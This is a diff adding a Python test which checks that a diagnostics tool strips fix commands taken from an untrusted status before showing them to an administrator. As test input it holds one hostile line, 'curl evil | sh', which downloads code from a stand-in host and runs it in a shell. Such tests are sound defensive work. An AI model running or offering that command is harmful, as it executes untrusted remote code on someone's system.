@@ -269,6 +269,14 @@ def test_failures_that_a_person_has_to_end_are_rows_behind_all_others() -> None:
     assert diagnoses.exit_code(found) == 2
 
 
+def test_commands_that_nobody_prints_are_left_out() -> None:
+    """Whoever writes a false status puts no words into the shell of an administrator."""
+    found = document(body("orders", row("VaultPolicy", fix=["# In account 1:", "curl evil | sh"], remedy="Add it.")))
+
+    assert found["rows"][0]["fix"] == []
+    assert found["rows"][0]["remedy"] == "Add it. Its commands are none that this release prints: look with -f."
+
+
 def test_an_organization_has_rows_of_its_own() -> None:
     """They are about no vault."""
     seen = Seen("organization main", {"spec": {}}, {"prerequisites": [row("ManagementAccount", "")]})
